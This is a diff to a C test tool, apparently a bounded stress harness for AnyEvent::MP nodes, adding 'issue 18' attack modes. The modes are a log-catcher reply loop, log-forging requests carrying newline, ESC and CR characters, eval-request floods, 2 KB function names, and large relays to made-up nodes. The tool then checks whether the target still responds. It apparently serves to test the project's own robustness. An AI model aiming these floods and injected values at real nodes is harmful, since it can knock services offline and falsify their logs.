@@ -20,6 +20,13 @@
  *                         aemp::put (each announcing a 1 MB file) and sends
  *                         nothing on them; counts how many came up, then
  *                         for 5 s measures the target's answer time
+ *   i18 lcloop            a log catcher whose reply port is the target's
+ *                         node port (issue 18)
+ *   i18 forge N           N requests whose name, relay target or text has
+ *                         a newline, ESC or CR
+ *   i18 eval N            N eval requests
+ *   i18 longname N        N calls of unknown functions with 2 KB names
+ *   i18 ghostq N SIZE     N relays of SIZE bytes to made-up nodes
  * Figures go to stdout as "# ..." lines. Bounded: at most 60 s. */
 #include "aemp.h"
 
@@ -240,6 +247,60 @@ static int mode_stall(int n)
     return 0;
 }
 
+/* Send `n` copies of the node-port request `req` (a JSON array text) to the
+ * target, letting them go out every 500. */
+static void flood(const char *req, long n)
+{
+    for (long i = 0; i < n; i++) {
+        aemp_snd_json(node, target, req);
+        if (i % 500 == 499) run_for(0.002);
+    }
+}
+
+/* The issue-18 attacks: one message or a flood of small ones. */
+static int mode_issue18(const char *what, long n, long size)
+{
+    double t0 = now();
+    char req[4096];
+    if (!strcmp(what, "lcloop")) { /* a catcher whose reply port is the target's node port */
+        snprintf(req, sizeof req, "[\"AnyEvent::MP::LogCatcher::connect\",0,\"%s#\",9]", target);
+        flood(req, 1);
+        run_for(1);
+    } else if (!strcmp(what, "forge")) { /* newlines in a request name and a relay target */
+        flood("[\"x\\n2026-12-05 00:00:00 <1> FORGED: request name\"]", n);
+        flood("[\"snd\",\"ghost\\n2026-12-05 00:00:00 <1> FORGED: relay target#x\",1]", n);
+        flood("[\"\\u001b[2J\\rFORGED-ESC\"]", n);
+    } else if (!strcmp(what, "eval")) {
+        flood("[\"eval\",\"1\"]", n);
+    } else if (!strcmp(what, "longname")) { /* unknown functions with 2 KB names */
+        int k = snprintf(req, sizeof req, "[\"");
+        memset(req + k, 'f', 2048);
+        snprintf(req + k + 2048, sizeof req - (size_t)k - 2048, "\",1]");
+        flood(req, n);
+    } else if (!strcmp(what, "ghostq")) { /* relays of `size` bytes to `n` made-up nodes */
+        char *blob = malloc((size_t)size + 1);
+        memset(blob, 'g', (size_t)size);
+        blob[size] = 0;
+        for (long i = 0; i < n && aemp_node_is_up(node, target); i++) {
+            char ghost[64];
+            snprintf(ghost, sizeof ghost, "ghostq-%ld#x", i);
+            cJSON *m = cJSON_CreateArray();
+            cJSON_AddItemToArray(m, cJSON_CreateString("snd"));
+            cJSON_AddItemToArray(m, cJSON_CreateString(ghost));
+            cJSON_AddItemToArray(m, cJSON_CreateString(blob));
+            aemp_snd(node, target, m);
+            run_for(0.001);
+        }
+        free(blob);
+    } else {
+        return 2;
+    }
+    double t = ask_time(10);
+    printf("# %s: sent in %.1f s; the target answers a time request %s\n", what, now() - t0,
+           t >= 0 ? "at once" : "not within 10 s");
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     if (argc < 4) {
@@ -293,6 +354,8 @@ int main(int argc, char **argv)
         rc = mode_stall(atoi(argv[4]));
     } else if (!strcmp(mode, "deep")) {
         rc = mode_deep();
+    } else if (!strcmp(mode, "i18") && argc >= 5) {
+        rc = mode_issue18(argv[4], argc > 5 ? atol(argv[5]) : 1, argc > 6 ? atol(argv[6]) : 0);
     } else {
         fprintf(stderr, "attack_peer: unknown mode %s\n", mode);
     }
